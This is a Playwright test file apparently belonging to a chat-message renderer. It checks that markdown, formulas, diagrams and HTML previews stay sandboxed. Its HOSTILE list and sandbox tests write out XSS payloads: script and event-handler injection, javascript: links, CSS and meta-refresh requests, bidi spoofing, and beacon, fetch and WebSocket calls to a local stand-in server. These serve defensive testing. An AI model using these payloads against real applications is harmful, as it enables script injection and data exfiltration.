"""Messages that want to do harm do nothing and reach nobody, also where one presses what there is to press."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from tests.browser.conftest import Opened
from tests.gallery.kept_page import KeptPage, kept_page
from tests.gallery.looking import colours_of
from tests.gallery.markdown_page import open_messages, show

PIXEL = base64.b64encode(
    base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
).decode()
MESSAGE = "div.md:not(details *)"
DIAGRAM = "```mermaid\ngraph LR; A[Signal box] --> B[灯塔]\n```\n"


class Stranger:
    """A server of this machine that only counts: who reaches it would reach any."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def log_message(self, format: str, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}"


@pytest.fixture(scope="module")
def stranger() -> Iterator[Stranger]:
    stranger = Stranger()
    Thread(target=stranger.server.serve_forever, daemon=True).start()
    yield stranger
    stranger.server.shutdown()
    stranger.server.server_close()


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("messages")


@pytest.fixture
def page(opened: Opened, folder: Path) -> Page:
    return open_messages(opened, folder)


@pytest.fixture(scope="module")
def apart(browser: Browser) -> Iterator[KeptPage]:
    """A page of its own for what is hostile: its console repeats with every frame what frames were refused."""
    apart = kept_page(browser)
    yield apart
    apart.page.context.close()


@pytest.fixture
def victim(apart: KeptPage, folder: Path) -> Page:
    apart.begin("light")
    return open_messages(apart, folder)


def frames_inside(page: Page) -> list[Frame]:
    """The frames that hold what strangers wrote."""
    return [frame for frame in page.frames if frame.parent_frame and frame.parent_frame.parent_frame]


def quiet(page: Page, apart: KeptPage, stranger: Stranger) -> None:
    """Nothing ran in the page, and nobody was asked."""
    assert page.evaluate("() => window.canary === undefined && document.title === 'message'")
    assert page.url.startswith("file:")
    assert len(page.context.pages) == 1
    assert stranger.asked == []
    assert [error for error in apart.errors if "canary" in error] == []


HOSTILE = [
    "<script>window.canary = 1</script>",
    "<svg onload='window.canary = 1'><script>window.canary = 1</script><a xlink:href='javascript:canary=1'>x</a></svg>",
    "<img src=x onerror='window.canary = 1'> <iframe srcdoc='<script>top.canary = 1</script>'></iframe>",
    "[a](javascript:window.canary=1) [b](data:text/html,<script>top.canary=1</script>) <javascript:canary=1>",
    "<style>@import 'URL/import'; * { background: url(URL/css) } @font-face { font-family: x; src: url(URL) }</style>",
    "<form action='URL/form'><input name=a autofocus onfocus='canary=1'><button type=submit>Go</button></form>",
    "<meta http-equiv='refresh' content='0;url=URL/meta'><base href='URL/'><link rel=stylesheet href='URL/link'>",
    "<a href='URL/ping' ping='URL/ping' target=_top id=canary name=canary>x</a>",
    "![p](URL/picture.png) ![q](//127.0.0.1/x.png) ![r][ref]\n\n[ref]: URL/reference.png",
    "\u202egnp.exe\u202c and `\u2066code` and [\u202ehttps://good.example](URL/bidi)",
    '<button type="send" value="x" onclick="window.canary=1" formaction="URL/f" style="position:fixed">Go</button>',
    "```html\n<script>top.location = 'URL/top'; window.open('URL/open')</script>\n```",
    "```mermaid\n%%{init: {'securityLevel': 'loose', 'themeCSS': '@import url(URL/theme)'}}%%\ngraph TD\n"
    "A[\"<img src='URL/label' onerror='top.canary=1'>\"] --> B\nclick A href \"javascript:top.canary=1\"\n"
    "click B call alert(1)\nstyle A fill:url(URL/fill)\n```",
    "$\\href{javascript:canary=1}{x}$ $\\includegraphics{URL/katex}$ $\\htmlStyle{background:url(URL/style)}{y}$ "
    "$\\url{javascript:canary=1}$ $</math><img src=x onerror=canary=1>$ $\\def\\a{\\a\\a}\\a$",
]


def test_a_stranger_would_be_reached_from_a_page_that_lets_it(victim: Page, stranger: Stranger) -> None:
    victim.evaluate("(url) => fetch(url + '/control').then(() => true)", stranger.url)

    assert stranger.asked == ["/control"]
    stranger.asked.clear()


@pytest.mark.parametrize("text", HOSTILE, ids=lambda text: text[:24])
def test_nothing_of_it_runs_and_nobody_is_asked(text: str, victim: Page, stranger: Stranger, apart: KeptPage) -> None:
    show(victim, text.replace("URL", stranger.url), thoughts=text.replace("URL", stranger.url))
    victim.locator("summary").click()
    for button in victim.locator(".md").get_by_role("button", name="Preview").all():
        button.click()
    for button in victim.locator(MESSAGE).get_by_role("button", name="Draw").all():
        button.click()
        expect(victim.locator(".md-frame:not([style='height: 40px;']), .md-diagram p").first).to_be_visible()
    for frame in frames_inside(victim):
        frame.wait_for_load_state()
    victim.wait_for_timeout(150)

    quiet(victim, apart, stranger)
    assert (
        victim.locator(":is(.md, .md-thoughts) :is(script, style, form, link, meta, base, object, embed)").count() == 0
    )
    assert victim.locator(".md [onclick], .md [onload], .md [onerror], .md [style]:not(iframe), .md [id]").count() == 0


def test_a_page_in_the_frame_runs_and_stays_in_it(victim: Page, stranger: Stranger, apart: KeptPage) -> None:
    tries = f"""<div id="done">not yet</div><script>
const tried = (act) => {{ try {{ act() }} catch {{}} }};
tried(() => {{ top.canary = 1 }}); tried(() => {{ parent.canary = 1 }}); tried(() => localStorage.setItem("a", "b"));
tried(() => {{ parent.location = "{stranger.url}/parent" }}); tried(() => {{ top.location = "{stranger.url}/top" }});
tried(() => open("{stranger.url}/open")); tried(() => new WebSocket("{stranger.url}/socket".replace("http", "ws")));
tried(() => navigator.sendBeacon("{stranger.url}/beacon", "x")); tried(() => new EventSource("{stranger.url}/events"));
tried(() => {{ new Image().src = "{stranger.url}/image" }}); tried(() => alert("canary"));
tried(() => {{ const f = document.createElement("iframe"); f.src = "{stranger.url}/frame";
  document.body.append(f) }});
tried(() => {{ const f = document.createElement("form"); f.action = "{stranger.url}/f";
  document.body.append(f); f.submit() }});
tried(() => new Worker("data:text/javascript,fetch('{stranger.url}/worker')"));
document.getElementById("done").textContent = [typeof RTCPeerConnection, origin].join(" ");
fetch("{stranger.url}/fetch").catch(() => 0).then(() => {{ document.title = "tried" }});
</script>"""
    show(victim, f"```html\n{tries}\n```")
    victim.get_by_role("button", name="Preview").click()
    inner = victim.frame_locator(".md-frame").frame_locator("iframe")

    expect(inner.locator("#done")).to_have_text("undefined null")
    frames_inside(victim)[0].wait_for_function("document.title === 'tried'")
    victim.wait_for_timeout(150)
    quiet(victim, apart, stranger)
    victim.get_by_role("button", name="Close the preview").click()
    expect(victim.locator("iframe")).to_have_count(0)


@pytest.mark.parametrize("way", ["location = URL", "location.replace(URL)", "document.links[0].click()"])
def test_a_page_in_the_frame_cannot_lead_it_elsewhere(
    way: str, victim: Page, stranger: Stranger, apart: KeptPage
) -> None:
    address = f"{stranger.url}/elsewhere"
    show(victim, f'```html\n<a href="{address}">x</a><script>const URL = "{address}"; {way}</script>\n```')
    victim.get_by_role("button", name="Preview").click()

    victim.wait_for_timeout(300)
    quiet(victim, apart, stranger)


def test_formulas_are_drawn_when_their_code_has_come(page: Page) -> None:
    show(page, "So $x^2$ and\n\n$$\\frac{a}{b}$$\n\n$\\notacommand{$ costs $5 and $6.")

    expect(page.locator(".md-maths math")).to_have_count(2)
    expect(page.locator("msup")).to_have_count(1)
    expect(page.locator(".md-maths[title]")).to_have_count(1)
    expect(page.locator(MESSAGE)).to_contain_text("costs $5 and $6")
    names = page.evaluate(
        "() => [...new Set([...document.querySelectorAll('math, math *')].map((e) => e.namespaceURI))]"
    )
    assert names == ["http://www.w3.org/1998/Math/MathML"]


def test_a_formula_that_is_drawn_stays_while_the_text_goes_on(page: Page) -> None:
    show(page, "One $x^2$\n\nand", is_open=True)
    expect(page.locator("math")).to_have_count(1)
    page.evaluate("() => { document.querySelector('math').kept = true }")
    show(page, "One $x^2$\n\nand $y$ more", is_open=True)

    expect(page.locator("math")).to_have_count(2)
    assert page.evaluate("() => document.querySelector('math').kept") is True


def test_a_formula_draws_nothing_outside_its_box(page: Page) -> None:
    show(page, "before\n\n$\\hspace{-40em}\\raisebox{30em}{\\rule{1000em}{1000em}}$\n\nafter")

    expect(page.locator("math")).to_have_count(1)
    box, host = page.locator(".md-maths").bounding_box(), page.locator(MESSAGE).bounding_box()
    assert box is not None
    assert host is not None
    assert box["width"] <= host["width"]
    assert page.evaluate("() => getComputedStyle(document.querySelector('.md-maths')).contain") == "paint"


def test_a_diagram_is_drawn_on_demand(theme: str, page: Page) -> None:
    show(page, DIAGRAM)
    expect(page.locator("iframe")).to_have_count(0)
    page.get_by_role("button", name="Draw").click()

    inner = page.frame_locator(".md-frame").frame_locator("iframe")
    expect(inner.locator("svg")).to_contain_text("灯塔")
    expect(page.locator(".md-frame")).not_to_have_attribute("style", "height: 40px;")
    assert colours_of(page.locator(".md-frame")) > 4


@pytest.mark.parametrize(
    ("source", "said"),
    [
        ("nonsense", "its first word names no kind of diagram"),
        ("graph TD\nA --> B\nB -->", "isn't understood"),
        ("graph TD\n" + "A --> B\n" * 4000, "more than 20000 characters"),
    ],
)
def test_no_diagram_is_said_in_words(source: str, said: str, page: Page) -> None:
    show(page, f"```mermaid\n{source}\n```")
    page.get_by_role("button", name="Draw").click()

    expect(page.locator(".md-diagram")).to_contain_text(said)
    expect(page.locator("iframe")).to_have_count(0)


def test_without_python_sources_stay_and_the_reason_is_said(opened: Opened, folder: Path) -> None:
    page = open_messages(opened, folder, live=False)
    show(page, f"$x^2$\n\n{DIAGRAM}")
    page.get_by_role("button", name="Draw").click()

    expect(page.locator(".md-diagram")).to_contain_text("only Python has the code for it")
    expect(page.locator(".md-maths[title]")).to_have_text("x^2")


def test_files_of_a_message_are_drawn_from_bytes_which_are_given_back(opened: Opened, folder: Path) -> None:
    address = "agent-asset://box/lamp.png"
    files = {address: {"base64": PIXEL, "type": "image/png"}, "page.html": {"base64": PIXEL, "type": "text/html"}}
    page = open_messages(opened, folder, assets=files)
    show(page, f"![A lamp]({address}) ![x](page.html) ![y](gone.png)")

    url = page.locator(".md-pic img").get_attribute("src")
    assert page.locator(".md-pic img").evaluate("(image) => image.decode().then(() => image.naturalWidth)") == 1
    expect(page.locator(".md-chip")).to_have_count(2)
    show(page, "gone")
    opened.errors.clear()
    assert page.evaluate("(url) => fetch(url).then(() => true, () => false)", url) is False
    opened.errors.clear()


def test_a_models_button_tells_python_what_it_told_the_reader(page: Page, opened: Opened) -> None:
    show(page, '<button type="send" value="I turn the page.">Turn the page</button>')
    expect(page.locator(".md-button")).to_contain_text("sends “I turn the page.”")
    page.locator(".md-button").get_by_role("button").click()

    assert opened.sent() == [
        {"command": "button", "kind": "send", "label": "Turn the page", "text": "I turn the page."}
    ]


def test_reasoning_is_drawn_when_it_is_opened(page: Page) -> None:
    show(page, "Answer", thoughts="First **this**.")
    expect(page.locator(".md-thoughts strong")).to_have_count(0)
    page.get_by_text("Thought for 6.2 s").click()

    expect(page.locator(".md-thoughts strong")).to_be_visible()


@pytest.mark.parametrize(
    "text",
    [
        "> " * 1000 + "deep",
        "x" * 1_000_000,
        "灯" * 150_000,
        "```\n" + "y" * 150_000 + "\n```",
        "|a|b|c|d|\n|-|-|-|-|\n" + "|1|2|3|4|\n" * 2500,
        "*a " * 3000,
    ],
    ids=["quotes", "line", "wide line", "code", "cells", "emphasis"],
)
def test_a_huge_message_is_drawn_in_bounds(text: str, page: Page) -> None:
    show(page, text)

    assert page.locator(f"{MESSAGE} *").count() < 4000
    assert page.evaluate("(at) => document.querySelector(at).textContent.length", MESSAGE) < 70_000 + (
        150_000 if "灯" in text else 0
    )
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
